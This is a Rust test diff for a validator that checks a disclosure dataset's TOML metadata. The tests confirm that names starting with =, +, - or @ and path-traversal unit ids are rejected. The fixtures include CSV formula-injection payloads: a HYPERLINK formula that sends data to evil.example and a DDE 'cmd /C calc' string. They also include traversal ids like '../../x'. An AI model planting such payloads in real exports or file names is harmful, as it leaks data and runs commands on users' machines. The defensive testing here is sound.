@@ -345,3 +345,60 @@ fn unit_toml_is_read_and_its_problems_name_it() {
         "{text:?}"
     );
 }
+
+#[test]
+fn names_a_spreadsheet_would_run_as_formulas_are_refused() {
+    // D4: these reach the open-data CSV (entity, unit_name) and file names.
+    let d = fixture();
+    let meta = META
+        .replace(
+            "name = \"测试局\"",
+            "name = \"=HYPERLINK('http://evil.example/?leak','点击查看')\"",
+        )
+        .replace("name = \"测试局本级\"", "name = \"+cmd|' /C calc'!A0\"");
+    write(d.path(), "disclosure.toml", &meta);
+    let p = problems(d.path());
+    assert_eq!(p.len(), 2, "{p:#?}");
+    assert!(p[0].message.contains("[entity] name"), "{}", p[0].message);
+    assert!(p[0].message.contains("以“=”开头"), "{}", p[0].message);
+    assert!(p[0].message.contains("公式"), "{}", p[0].message);
+    assert_eq!(p[0].file, "disclosure.toml");
+    assert_eq!(p[0].row, Some(3));
+    assert!(p[1].message.contains("[units] name"), "{}", p[1].message);
+    assert!(p[1].message.contains("以“+”开头"), "{}", p[1].message);
+    assert_eq!(p[1].row, Some(10));
+    for bad in ["-1+1", "@SUM(A1)"] {
+        write(
+            d.path(),
+            "disclosure.toml",
+            &META.replace("name = \"测试局\"", &format!("name = \"{bad}\"")),
+        );
+        assert!(one(d.path()).message.contains("不能以 = + - @"));
+    }
+    // a name with such a character elsewhere is fine
+    write(
+        d.path(),
+        "disclosure.toml",
+        &META.replace("name = \"测试局\"", "name = \"测试局-A=B\""),
+    );
+    assert_eq!(load_dataset(d.path()).unwrap().entity.name, "测试局-A=B");
+}
+
+#[test]
+fn unit_ids_are_plain_directory_names() {
+    // D3: a unit id is a directory of the dataset and of `build --units` output.
+    let d = fixture();
+    for bad in ["../../x", "/tmp/x", "a/b", "..", "-x", "名称"] {
+        write(
+            d.path(),
+            "disclosure.toml",
+            &META.replace("id = \"u\"", &format!("id = \"{bad}\"")),
+        );
+        let p = problems(d.path());
+        assert!(
+            p.iter()
+                .any(|p| p.message.contains(&format!("单位 id“{bad}”只能由"))),
+            "{bad}: {p:#?}"
+        );
+    }
+}
